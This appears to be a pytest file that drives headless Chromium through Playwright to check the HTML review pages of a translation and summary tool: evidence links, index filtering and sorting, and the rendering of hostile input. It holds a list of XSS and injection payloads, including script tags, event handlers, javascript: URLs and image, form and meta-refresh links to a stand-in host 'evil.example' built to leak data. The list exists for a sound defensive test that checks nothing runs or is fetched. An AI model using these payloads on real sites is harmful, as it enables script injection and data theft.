"""The review pages in a real browser: headless Chromium (Debian's `chromium`) driven by Playwright.

Playwright downloads no browser here: it drives the system's Chromium through
`executable_path`. `.ci/run` installs it when missing; where it cannot be installed,
these tests are skipped (marked `browser`, so `-m "not browser"` leaves them out). Every
test writes a screenshot of each page it opened under its temporary folder.
"""

from __future__ import annotations

import json
import re
import runpy
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from briefs import document, make_brief
from conftest import CHROMIUM, ROOT, SHORT_SEED, seed
from test_html import replayed

from summarise.batch.discover import Item
from summarise.batch.outcomes import BatchRun, Outcome, Status
from summarise.batch.reports import write_index
from summarise.batch.state import STATE_FILE, write_state
from summarise.brief import Check, Fact, Line, Review
from summarise.cli import main
from summarise.readers import load_document
from summarise.render.publish import write_brief

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is in the [test] extra")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no chromium installed (Debian: apt-get install chromium)"),
]
HIGHLIGHT = "rgb(255, 242, 168)"  # --mark in page.css: the colour of a line the page jumped to


@dataclass
class Opened:
    """A page, and everything it tried to do besides showing itself."""

    page: Any
    requests: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    dom: dict[str, Any] = field(default_factory=dict)  # as loaded, before the screenshot touches anything


@pytest.fixture
def open_page(browser: Any, tmp_path: Path) -> Iterator[Any]:
    contexts: list[Any] = []

    def open_(path: Path, shot: str) -> Opened:
        context = browser.new_context(viewport={"width": 1280, "height": 800})
        contexts.append(context)
        page = context.new_page()
        opened = Opened(page)
        page.on("request", lambda request: opened.requests.append(request.url))
        page.on("console", lambda message: opened.console.append(message.text))
        page.on("pageerror", lambda error: opened.errors.append(str(error)))
        page.on("dialog", lambda dialog: (opened.dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(path.resolve().as_uri())
        opened.dom = _dom(page)
        page.screenshot(path=str(tmp_path / f"{shot}.png"), full_page=True)
        return opened

    yield open_
    for context in contexts:
        context.close()


def test_clicking_a_fact_scrolls_to_its_evidence_and_highlights_it(open_page, tmp_path: Path) -> None:
    brief = make_brief()
    flagged = brief.facts[1]  # evidence on line 35, far below the facts
    write_brief(tmp_path / "lyon.md", brief, html=True)
    opened = open_page(tmp_path / "lyon.html", "brief")
    page = opened.page
    line = page.locator(f"#L{flagged.sentence}")
    assert not line.evaluate("e => e.getBoundingClientRect().top < window.innerHeight")  # off-screen at first

    page.locator("#F2 a.evidence-link").click()

    page.wait_for_function(f"location.hash === '#L{flagged.sentence}'")
    assert line.evaluate("e => e.matches(':target')")
    assert line.evaluate("e => getComputedStyle(e).backgroundColor") == HIGHLIGHT
    box = line.evaluate("e => { const r = e.getBoundingClientRect(); return [r.top, r.bottom]; }")
    assert box[0] >= 0 and box[1] <= 800  # now in view, below the sticky column headings
    # The line shows the source beside its translation, and is marked as a flagged fact's evidence.
    assert line.locator(".src").inner_text().startswith(flagged.evidence)
    assert line.locator(".tr").inner_text() == brief.lines[flagged.sentence - 1].translation
    assert "flagged" in (line.get_attribute("class") or "") and line.locator(".marks a").inner_text() == "⚠ fact 2"
    assert page.locator("#F2 .badge").inner_text() == "flagged"
    assert page.locator("#F3 .badge").inner_text() == "re-anchored"
    page.screenshot(path=str(tmp_path / "brief-after-click.png"))
    assert not opened.console and not opened.errors and not opened.dialogs


def test_the_seed_brief_side_by_side_has_a_row_per_source_paragraph(
    endpoint, runner, open_page, tmp_path: Path
) -> None:
    with replayed("test_brief_recorded/test_brief_of_a_french_press_release.yaml"):
        result = runner.invoke(main, ["brief", str(seed(SHORT_SEED)), "-o", "brief.md", "--html"])
    assert result.exit_code == 0, result.output
    source = load_document(seed(SHORT_SEED), 10**7)

    page = open_page(tmp_path / "brief.html", "seed-brief").page

    rows = page.locator("#translation .para")
    assert rows.count() == source.paragraph_count
    for index, paragraph in enumerate(source.paragraphs()):
        numbers = rows.nth(index).locator(".line .num").all_inner_texts()
        assert numbers == [str(sentence.number) for sentence in paragraph]  # aligned: one row per line, both sides
        assert rows.nth(index).locator(".line .tr").count() == len(paragraph)
    # Each summary sentence links to lines that exist on the page.
    targets = page.locator(".summary a.cite").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert targets and all(page.locator(target).count() == 1 for target in targets)
    # Clicking a fact's link lands on its evidence line, beside the translation.
    first = page.locator("#F1 a.evidence-link")
    target = first.get_attribute("href")
    first.click()
    assert page.locator(target).evaluate("e => e.matches(':target')")
    assert page.locator(target).locator(".tr").inner_text().strip()


def _folder(tmp_path: Path) -> Path:
    """Four briefs (clean and approved; a flagged fact; incomplete; a failed check only) and two failures."""
    out = tmp_path / "outputs"
    clean = make_brief(
        title="Bordeaux", facts=make_brief().facts[:1], checks=(Check("Translation complete", True, "ok"),)
    )
    write_brief(out / "bordeaux.md", clean, html=True, index="index.html")
    from summarise.review import record_review

    (out / STATE_FILE).write_text("{}", encoding="utf-8")
    record_review(out / "bordeaux.md", "approved", "Alice")
    write_brief(out / "anvers.md", make_brief(title="Anvers"), html=True, index="index.html")
    incomplete = make_brief(
        title="Calais", problems=("facts: the answer was not valid JSON",), facts=(), checks=clean.checks
    )
    write_brief(out / "sub" / "calais.md", incomplete, html=True, index="../index.html")
    checked = make_brief(title="Dunkerque", facts=(make_brief().facts[0], make_brief().facts[2]))
    write_brief(out / "dunkerque.md", checked, html=True, index="index.html")
    outcomes = [
        Outcome("empty.txt", Status.FAILED, "the file is empty (or only whitespace); nothing to summarise"),
        Outcome("scan.txt", Status.FAILED, "this is a PNG image, not text; convert it to plain text first"),
    ]
    items = [Item(Path(o.name), Path(o.name), out / o.name, o.name) for o in outcomes]
    write_state(out, items, BatchRun(outcomes))
    write_index(out)
    return out


def _titles(page: Any, visible_only: bool = True) -> list[str]:
    rows = page.locator("#briefs tbody tr:not([hidden])" if visible_only else "#briefs tbody tr")
    return rows.locator("td:first-child a").all_inner_texts()


def test_the_folder_page_filters_and_sorts(open_page, tmp_path: Path) -> None:
    opened = open_page(_folder(tmp_path) / "index.html", "index")
    page = opened.page
    assert _titles(page) == ["Anvers", "Bordeaux", "Dunkerque", "Calais"]  # as the index lists them: by path
    assert page.locator("#shown").inner_text() == "4 of 4 shown"

    page.get_by_label("flagged only").check()  # a flagged fact, or a failed check
    assert _titles(page) == ["Anvers", "Dunkerque"]
    page.get_by_label("incomplete only").check()
    assert _titles(page) == [] and page.locator("#shown").inner_text() == "0 of 4 shown"
    page.get_by_label("flagged only").uncheck()
    assert _titles(page) == ["Calais"]
    page.screenshot(path=str(tmp_path / "index-incomplete.png"))
    page.get_by_label("incomplete only").uncheck()

    supported = page.locator("#briefs thead th", has_text="Supported")
    supported.locator("button").click()
    assert _titles(page) == ["Calais", "Bordeaux", "Anvers", "Dunkerque"]
    assert supported.get_attribute("aria-sort") == "ascending"
    page.locator("#briefs thead th", has_text="Flagged").locator("button").click()
    assert _titles(page)[-1] == "Anvers" and supported.get_attribute("aria-sort") is None
    supported.locator("button").click()
    supported.locator("button").click()
    assert _titles(page)[2:] == ["Bordeaux", "Calais"] and supported.get_attribute("aria-sort") == "descending"
    page.locator("#briefs thead th", has_text="Review").locator("button").click()
    assert _titles(page)[0] == "Bordeaux"  # "approved" sorts before "needs review"
    # Every brief's decision and status is shown, and what failed is listed with its reason.
    reviews = page.locator("#briefs tbody td:last-child .badge").all_inner_texts()
    assert sorted(reviews) == ["approved", "needs review", "needs review", "needs review"]
    failed = page.locator("#failed tbody tr").all_inner_texts()
    assert [row.split("\t")[0] for row in failed] == ["empty.txt", "scan.txt"] and "PNG image" in failed[1]
    # The links lead to the pages, which lead back.
    assert page.locator("a", has_text="Calais").get_attribute("href") == "sub/calais.html"
    page.locator("a", has_text="Calais").click()
    page.wait_for_url("**/sub/calais.html")
    page.locator("a", has_text="All briefs").click()
    page.wait_for_url("**/outputs/index.html")
    assert not opened.console and not opened.errors


# --- nothing from a document or a model becomes part of the page ----------------------

PAYLOADS = [
    "<script>alert('script')</script>",
    '<img src="https://evil.example/img" onerror="alert(\'img\')">',
    "\"><svg onload=alert('svg')>",
    "</script><script>alert('breakout')</script>",
    "javascript:alert('url')",
    "![leak](https://evil.example/leak?d=secret) [click](https://evil.example/click)",
    '<a href="https://evil.example/a">link</a><iframe src="https://evil.example/frame"></iframe>',
    "<style>body{background:url(https://evil.example/css)}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">',
    "<!-- a comment --> &lt;b&gt;entity&lt;/b&gt; {{ 7*7 }} {% raw %}",
    "\u202eevil\u202c <form action=https://evil.example/f><input name=x></form>",
]
HOSTILE = " ".join(PAYLOADS)

# Every element and attribute the templates write. Anything else in a page came from its input.
OUR_ELEMENTS = {
    "html", "head", "meta", "title", "style", "body", "header", "footer", "main", "section", "h1", "h2", "p", "dl",
    "div", "dt", "dd", "span", "code", "strong", "em", "a", "ol", "li", "blockquote", "ul", "script", "label",
    "input", "table", "thead", "tbody", "tr", "th", "td", "button",
}  # fmt: skip
OUR_ATTRIBUTES = {
    "lang", "charset", "http-equiv", "content", "name", "class", "id", "href", "title", "dir", "type", "hidden",
    "aria-live", "aria-sort", "data-type", "data-sort", "data-flagged", "data-status", "data-review",
    "data-key", "data-label", "data-name",
}  # fmt: skip
LINK = re.compile(r"^(#[LFPS]\d+|#(checks|facts|summary)|(\.\./)*index\.html|[\w./%-]+\.(html|md))$")


def hostile_brief() -> Any:
    doc = document(f"Le conseil s’est réuni à Lyon. {HOSTILE}\n\nLe budget est de 12 millions. {HOSTILE}")
    lines = [Line(s.number, s.paragraph, s.text, f"Translated {HOSTILE}") for s in doc.sentences]
    fact = Fact(f"Fact {HOSTILE}", f"what {HOSTILE}", 2, 1, doc.sentences[1].text, "fuzzy", (HOSTILE,), HOSTILE)
    return make_brief(
        doc,
        title=f"Title {HOSTILE}",
        source=f"inputs/{HOSTILE}",
        source_language='fr" onmouseover="alert(1)',
        model=HOSTILE,
        endpoint=HOSTILE,
        created=HOSTILE,
        summary=f"Summary {HOSTILE} [2]. Second {HOSTILE}.",
        facts=(fact, replace(fact, sentence=0, paragraph=0, match="absent")),
        translation=(f"Paragraph {HOSTILE}",) * doc.paragraph_count,
        lines=(*lines[:-1], replace(lines[-1], translation="")),  # one paragraph shown whole
        checks=(Check(HOSTILE, False, HOSTILE),),
        problems=(HOSTILE,),
        metadata={"date": HOSTILE},
        review=Review("rejected", HOSTILE, HOSTILE, HOSTILE, ""),
    )


def _dom(page: Any) -> dict[str, Any]:
    return page.evaluate(
        """() => {
        const elements = Array.from(document.querySelectorAll('*'));
        return {
          tags: [...new Set(elements.map(e => e.localName))],
          attributes: [...new Set(elements.flatMap(e => e.getAttributeNames()))],
          links: elements.filter(e => e.hasAttribute('href')).map(e => e.getAttribute('href')),
          scripts: Array.from(document.scripts).map(s => s.type),
          text: document.body.innerText,
          title: document.title,
        };
    }"""
    )


def _assert_inert(opened: Opened, dom: dict[str, Any], scripts: list[str], page_url: str) -> None:
    assert set(dom["tags"]) <= OUR_ELEMENTS, set(dom["tags"]) - OUR_ELEMENTS
    assert set(dom["attributes"]) <= OUR_ATTRIBUTES, set(dom["attributes"]) - OUR_ATTRIBUTES
    assert all(LINK.match(link) for link in dom["links"]), [link for link in dom["links"] if not LINK.match(link)]
    assert dom["scripts"] == scripts
    assert opened.requests == [page_url]  # nothing fetched, no redirect
    assert not opened.dialogs and not opened.errors and not opened.console  # nothing ran, nothing was blocked


def test_a_hostile_record_gives_a_page_with_nothing_of_its_own(open_page, tmp_path: Path) -> None:
    path = tmp_path / "hostile.md"
    write_brief(path, hostile_brief(), html=True)
    (tmp_path / STATE_FILE).write_text("{}", encoding="utf-8")
    write_index(tmp_path)

    opened = open_page(path.with_suffix(".html"), "hostile-brief")
    dom = opened.dom
    _assert_inert(opened, dom, ["application/json"], path.with_suffix(".html").as_uri())
    # The hostile text is shown, as text: the reviewer sees what the model or document said.
    assert "<script>alert('script')</script>" in dom["text"] and "{{ 7*7 }}" in dom["text"]
    # A title is plain text, shown as written (as the Markdown shows it), never run; and
    # model-written text shows the same words as the Markdown: markup dropped, never run.
    assert dom["title"].startswith("Title <script>alert('script')</script>") and "\u202e" not in dom["text"]

    index = open_page(tmp_path / "index.html", "hostile-index")
    index_dom = index.dom
    _assert_inert(index, index_dom, [""], (tmp_path / "index.html").as_uri())
    assert "Title <script>alert('script')</script>" in index_dom["text"]


def test_the_robustness_documents_through_the_pipeline_give_inert_pages(
    endpoint, runner, open_page, tmp_path: Path
) -> None:
    """tests/robustness/'s hostile document, summarised by the real model (its recording)."""
    hostile = runpy.run_path(str(ROOT / "tests" / "robustness" / "test_hostile.py"))["HOSTILE"]
    Path("hostile.txt").write_text(hostile, encoding="utf-8")
    with replayed("test_hostile/test_a_hostile_document_does_not_change_the_brief.yaml"):
        result = runner.invoke(main, ["brief", "hostile.txt", "-o", "hostile.md", "--html"])
    assert result.exit_code == 0, result.output

    opened = open_page(tmp_path / "hostile.html", "robustness-brief")
    dom = opened.dom
    _assert_inert(opened, dom, ["application/json"], (tmp_path / "hostile.html").as_uri())
    assert "https://evil.example/leak?d=1" in dom["text"]  # the document's own words, shown as words
    record = json.loads(opened.page.locator("#brief-record").text_content())
    assert record["source"] == "hostile.txt"
